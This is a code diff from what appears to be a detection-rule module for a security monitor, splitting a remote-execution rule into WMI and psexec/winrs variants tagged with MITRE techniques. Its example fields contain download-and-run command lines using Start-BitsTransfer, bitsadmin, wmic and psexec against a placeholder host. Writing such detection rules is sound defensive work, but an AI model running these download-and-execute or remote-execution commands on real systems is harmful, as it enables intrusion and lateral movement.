@@ -81,12 +81,17 @@ export const executionSignals: readonly Signal[] = [
     examples: [{ ScriptBlockText: 'Start-BitsTransfer https://files.example.net/a C:\\d\\a.exe; Start-Process C:\\d\\a.exe' }],
   },
   {
-    id: 'remote-carrier', family: 'execution', impact: 80, confidence: 55, techniques: ['T1197', 'T1047'],
-    reason: ({ carriers }) => {
-      const carrier = carriers.find((name) => name === 'wmic' || name === 'wmi' || name === 'psexec' || name === 'winrs' || name === 'invoke-command');
-      return carrier && `the command is carried by ${carrier}, as to another machine`;
-    },
+    id: 'wmi-carrier', family: 'execution', impact: 80, confidence: 55, techniques: ['T1047'],
+    reason: ({ carriers }) => (carriers.includes('wmic') || carriers.includes('wmi') ? 'the command is carried by WMI, as to another machine' : undefined),
     examples: [{ process_name: 'wmic.exe', process: 'wmic process call create "bitsadmin /transfer job https://files.example.net/a C:\\d\\a"' }],
+  },
+  {
+    id: 'remote-carrier', family: 'execution', impact: 80, confidence: 55, techniques: ['T1197'],
+    reason: ({ carriers }) => {
+      const carrier = carriers.find((name) => name === 'psexec' || name === 'winrs' || name === 'invoke-command');
+      return carrier && `the command is carried by ${carrier} to another machine`;
+    },
+    examples: [{ process_name: 'psexec.exe', process: 'psexec \\\\srv07 bitsadmin /transfer job https://files.example.net/a C:\\d\\a' }],
   },
   {
     id: 'scheduled', family: 'execution', impact: 75, confidence: 45, techniques: ['T1053.005'],
